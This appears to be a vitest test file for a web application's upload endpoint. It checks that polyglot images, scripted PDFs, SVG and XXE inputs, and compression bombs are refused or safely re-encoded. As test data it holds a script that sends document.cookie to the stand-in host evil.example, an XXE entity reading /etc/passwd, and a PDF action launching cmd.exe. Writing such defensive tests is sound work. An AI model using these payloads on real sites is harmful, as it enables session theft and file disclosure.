import { gzipSync } from "node:zlib";
import sharp from "sharp";
import { describe, expect, test } from "vitest";
import { m } from "#generated/texts/messages.js";
import { headersOf } from "../../support/api.ts";
import { testApi, testDatabase, testFolder } from "../../support/fixtures.ts";

const folder = await testFolder();
const database = await testDatabase();
const api = await testApi(database, { DATA_DIR: folder });
const caller = await api.signInAs({ soldTo: ["S1"] });

async function upload(name: string, content: Uint8Array): Promise<{ status: number; id: string; type: string }> {
	const headers = {
		"content-type": "application/octet-stream",
		"x-file-name": encodeURIComponent(name),
		...headersOf(caller),
	};
	const response = await fetch(`${api.url}/api/uploads`, { method: "POST", headers, body: new Uint8Array(content) });
	return { status: response.status, ...((await response.json()) as { id: string; type: string }) };
}

const taken = (id: string, query = "") =>
	fetch(`${api.url}/files/${id}${query}`, {
		headers: { cookie: `${caller.cookie}; auth=${caller.authorization.slice("Bearer ".length)}` },
	});

const script = "<script>fetch('https://evil.example/'+document.cookie)</script>";
const pixels = () => sharp({ create: { width: 40, height: 40, channels: 3, background: "#884422" } });
const pdfWith = (object: string) =>
	Buffer.from(`%PDF-1.7\n1 0 obj\n${object}\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`);
const behind = (image: Buffer, more: string | Buffer) => Buffer.concat([image, Buffer.from(more)]);

describe("two files in one (polyglot)", () => {
	test.each([
		[
			"a photo with a page of HTML behind it",
			async () => behind(await pixels().jpeg().toBuffer(), script),
			"evil.html",
		],
		[
			"a photo with an archive behind it",
			async () => behind(await pixels().jpeg().toBuffer(), "PK\u0003\u0004evil.example"),
			"evil.jar",
		],
		[
			"a picture with script in its comment",
			async () =>
				pixels()
					.withExif({ IFD0: { ImageDescription: script } })
					.jpeg()
					.toBuffer(),
			"a.svg",
		],
		[
			"a picture with a profile of a user's own",
			async () => behind(await pixels().png().toBuffer(), script),
			"a.xhtml",
		],
	])("%s is re-encoded: nothing of the other is left, whatever it was called", async (_what, make, name) => {
		const { status, id, type } = await upload(name, await make());
		expect([status, type]).toEqual([201, expect.stringMatching(/^image\/(jpeg|png)$/)]);
		const answer = await taken(id, "?view");
		expect(Buffer.from(await answer.arrayBuffer()).includes("evil.example")).toBe(false);
		expect([answer.headers.get("content-type"), answer.headers.get("x-content-type-options")]).toEqual([
			type,
			"nosniff",
		]);
	});

	test.each([
		["a page of HTML in front of a PDF", Buffer.concat([Buffer.from(`<html>${script}`), pdfWith("<<>>")])],
		["a PDF with a link", pdfWith("<</Type/Catalog/OpenAction<</S/URI/URI(https://evil.example)>>>>")],
	])("%s is delivered as a PDF to save, never shown, and may run nothing", async (_what, content) => {
		const { status, id, type } = await upload("document.pdf", content);
		expect([status, type]).toEqual([201, "application/pdf"]);
		const { headers } = await taken(id, "?view");
		expect(headers.get("content-disposition")).toMatch(/^attachment; filename="document\.pdf"/);
		expect([headers.get("content-type"), headers.get("x-content-type-options")]).toEqual([
			"application/pdf",
			"nosniff",
		]);
		expect(headers.get("content-security-policy")).toBe("default-src 'none'; sandbox; frame-ancestors 'none'");
	});
});

test.each([
	[
		"a PDF with a script",
		pdfWith("<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"),
		m.server_file_active(),
	],
	[
		"a PDF that starts a program",
		pdfWith("<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>"),
		m.server_file_active(),
	],
	["a PDF with a program attached", pdfWith("<</Type/Filespec/F(a.exe)/EF<</F 2 0 R>>>>"), m.server_file_attachment()],
	["a PDF that cannot be read", Buffer.from("%PDF-1.7\nBT (1) Tj ET\n%%EOF\n"), m.server_file_unreadable()],
])("%s is refused with its reason", async (_what, content, reason) => {
	expect(await upload("document.pdf", content)).toMatchObject({ status: 400, detail: reason });
});

describe("what is no photo and no PDF", () => {
	test.each([
		[
			"a drawing with script",
			`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`,
		],
		["a drawing behind a byte order mark", `\ufeff<svg xmlns="http://www.w3.org/2000/svg"/>`],
		["XML that asks for a file of the machine", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>'],
		["a moving picture that is a script too", "GIF89a/*\u0001*/=1;alert(1)//"],
		["a picture of another kind", "II*\u0000\u0008\u0000\u0000\u0000"],
	])("is refused: %s", async (_what, content) => {
		expect((await upload("photo.jpg", Buffer.from(content))).status).toBe(400);
	});

	test("is refused packed too, whatever it would become (bombs)", async () => {
		expect((await upload("photo.jpg", gzipSync(Buffer.alloc(5_000_000)))).status).toBe(400);
		expect((await upload("photo.zip", Buffer.from("PK\u0003\u0004\u0014\u0000"))).status).toBe(400);
	});
});
